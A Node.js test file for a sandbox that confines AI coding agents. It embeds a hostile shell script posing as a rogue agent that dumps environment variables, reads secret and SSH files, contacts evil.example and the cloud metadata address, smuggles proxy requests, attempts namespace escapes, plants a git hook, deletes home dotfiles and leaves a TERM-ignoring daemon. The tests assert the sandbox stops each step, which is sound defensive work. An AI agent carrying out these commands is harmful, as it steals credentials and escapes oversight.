// An agent that is an enemy: a program that tries everything it can reach.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { test } from 'node:test';

import { daemonsOf } from '../e2e/hostile.mjs';
import { makeWorld, pawl, startPawl, until } from '../e2e/lib.mjs';

const kKey = 'sk-canary-of-the-person-5d0e4a7c21';
const sandbox = spawnSync('/usr/bin/bwrap', ['--unshare-all', '--ro-bind', '/', '/', '/bin/true']).status === 0;
const skip = sandbox ? false : 'no command can be confined here';

// What it finds goes to `loot`; what it breaks lies in `outside`.
const attack = (world, port) => `#!/bin/sh
exec > loot 2>&1
outside='${world.folder}/outside'
env
cat /proc/*/environ | tr '\\0' '\\n'
cat '${world.home}/secret.txt' "$HOME/secret.txt" ~root/.ssh/* /root/.bash_history
find / -name config.toml -path '*pawl*' -exec cat {} +
find / -name '*.sock' -o -type s 2> /dev/null | head
echo broken > "$outside/victim.txt"; touch '${world.folder}/betrayed'
mount -t tmpfs none /mnt; unshare -r true && echo UNSHARED; nsenter -t 1 -m id
python3 - <<'END'
import ctypes, os, socket, urllib.request
for host, port in [('127.0.0.1', ${port}), ('10.0.0.1', 80), ('169.254.169.254', 80)]:
    try:
        socket.create_connection((host, port), 2).sendall(b'GET /stolen HTTP/1.0\\r\\n\\r\\n')
        print('CONNECTED', host, port)
    except OSError as error:
        print(error)
def ask(method, url, headers={}, body=None):
    try:
        answer = urllib.request.urlopen(urllib.request.Request(url, body, headers, method=method), timeout=5)
        print('ANSWERED', url, answer.read()[:200])
    except Exception as error:
        print(error)
base = os.environ['OPENAI_BASE_URL']
key = {'Authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']}
ask('GET', 'http://127.0.0.1:${port}/stolen')
ask('GET', 'https://evil.example/')
ask('GET', base + '/files', key)
ask('GET', base + '/../../stolen', key)
ask('GET', base + '/models/..%2f..%2fstolen', key)
ask('DELETE', base + '/models/m', key)
ask('GET', base + '/models', {'Authorization': 'Bearer guess'})
gate = socket.create_connection(('127.0.0.1', 3128), 2)
gate.sendall(b'CONNECT 127.0.0.1:${port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
print('CONNECT', gate.recv(100))
gate = socket.create_connection(('127.0.0.1', 3128), 2)
gate.sendall(b'POST /openai/v1/chat/completions HTTP/1.1\\r\\nContent-Length: 99999999999999\\r\\n\\r\\n')
print('LENGTH', gate.recv(100))
gate = socket.create_connection(('127.0.0.1', 3128), 2)
gate.sendall(b'POST /openai/v1/chat/completions HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nffffffffffffffff\\r\\n')
print('CHUNK', gate.recv(100))
END
mkdir .git/hooks; echo 'touch ${world.folder}/betrayed' > .git/hooks/pre-commit
ln -s "$outside" linked; ln -s /etc/passwd README.md; mkfifo pipe
rm -rf ~/.??*; ln -s "$outside" ~/.gemini; ln -s "$outside/victim.txt" ~/.pawl-prompt.md
ln -s "$outside/victim.txt" .pawl-bail.json
i=0; while [ $i -lt 3000 ]; do echo '{"type":"result","text":"'; i=$((i + 1)); done
setsid sh -c 'trap "" TERM HUP INT; while :; do sleep 1; done # ${path.basename(world.folder)}-daemon' > /dev/null 2>&1 &
exit 0
`;

function hostileWorld() {
  const world = makeWorld();
  fs.writeFileSync(path.join(world.home, 'secret.txt'), 'canary-of-the-home\n');
  fs.mkdirSync(path.join(world.folder, 'outside'));
  fs.writeFileSync(path.join(world.folder, 'outside', 'victim.txt'), 'victim\n');
  fs.mkdirSync(path.join(world.folder, 'pawl', 'config'), { recursive: true });
  fs.writeFileSync(path.join(world.folder, 'pawl', 'config', 'config.toml'), `[model]\napi_key = "${kKey}"\n`, { mode: 0o600 });
  world.env.GITHUB_TOKEN = 'ghp_canaryofthegithubtoken0123456789abcd';
  return world;
}

test('a hostile agent gets no key, no HOME, no host, and breaks nothing', { skip }, async () => {
  const world = hostileWorld();
  let visits = 0;
  const server = http.createServer((_, response) => { visits += 1; response.end('{}'); });
  await new Promise((resolve) => { server.listen(0, '127.0.0.1', resolve); });
  const { port } = server.address();
  // Its model is the very server it wants to reach: it may be asked for answers alone.
  world.env.PAWL_MODEL_BASE_URL = `http://127.0.0.1:${port}/v1`;
  try {
    const script = path.join(world.folder, 'agent.sh');
    fs.writeFileSync(script, attack(world, port));
    const into = path.join(world.folder, 'into');
    const started = startPawl(world, ['agent', 'try', `command:sh ${script}`, '--into', into, '--json', '--wall', '60']);
    const { out, err } = await started.ended;
    const document = JSON.parse(out);
    assert.equal(document.end, 'bailed', err);
    assert.equal(document.bail.detail, 'its bail file is a link');
    const loot = fs.readFileSync(path.join(into, 'loot'), 'utf8');
    for (const canary of [kKey, 'canary-of-the-home', 'ghp_canary', 'CONNECTED', 'ANSWERED', 'UNSHARED', '200 Connection']) {
      assert.ok(!loot.includes(canary), `${canary}:\n${loot.slice(0, 4000)}`);
    }
    assert.equal(visits, 0);
    assert.equal(fs.readFileSync(path.join(world.folder, 'outside', 'victim.txt'), 'utf8'), 'victim\n');
    assert.deepEqual(fs.readdirSync(path.join(world.folder, 'outside')), ['victim.txt']);
    assert.ok(!fs.existsSync(path.join(world.folder, 'betrayed')));
    assert.deepEqual(daemonsOf(world), []);
    const refused = document.events.filter((event) => event.kind === 'agent.refused').map((event) => event.data.what);
    for (const what of ['evil.example', `127.0.0.1:${port}`, 'GET /openai/v1/files', 'DELETE /openai/v1/models/m']) {
      assert.ok(refused.includes(what), `${what} is not among ${refused.join(', ')}`);
    }
  } finally {
    server.close();
    world.remove();
  }
});

test('an agent that ignores TERM, forks daemons and closes its output is stopped within 8 s', { skip }, async () => {
  const world = hostileWorld();
  try {
    const script = path.join(world.folder, 'agent.sh');
    fs.writeFileSync(script, `trap '' TERM INT HUP
echo begun; setsid sh -c 'trap "" TERM; exec > /dev/null 2>&1; while :; do sleep 1; done # ${path.basename(world.folder)}-daemon' &
exec > /dev/null 2>&1
while :; do sleep 1; done # ${path.basename(world.folder)}-daemon
`);
    const started = startPawl(world, ['agent', 'try', `command:sh ${script}`, '--json']);
    await until(() => daemonsOf(world).length >= 1, 'the daemon');
    const before = Date.now();
    started.child.kill('SIGTERM');
    const { out } = await started.ended;
    assert.ok(Date.now() - before < 8000, `${Date.now() - before} ms`);
    assert.equal(JSON.parse(out).end, 'cancelled');
    assert.deepEqual(daemonsOf(world), []);
  } finally {
    world.remove();
  }
});

test('agents are listed, and one that is none is refused with the nearest name', () => {
  const world = makeWorld();
  try {
    const listed = pawl(world, ['agent', 'list', '--json']);
    assert.equal(listed.code, 0, listed.err);
    assert.deepEqual(JSON.parse(listed.out).agents.map((each) => each.agent),
      ['claude', 'codex', 'opencode', 'copilot', 'gemini', 'acp', 'command', 'scripted', 'pawl']);
    const wrong = pawl(world, ['agent', 'try', 'cluade:sonnet']);
    assert.equal(wrong.code, 2);
    assert.match(wrong.err, /did you mean claude\?/);
  } finally {
    world.remove();
  }
});
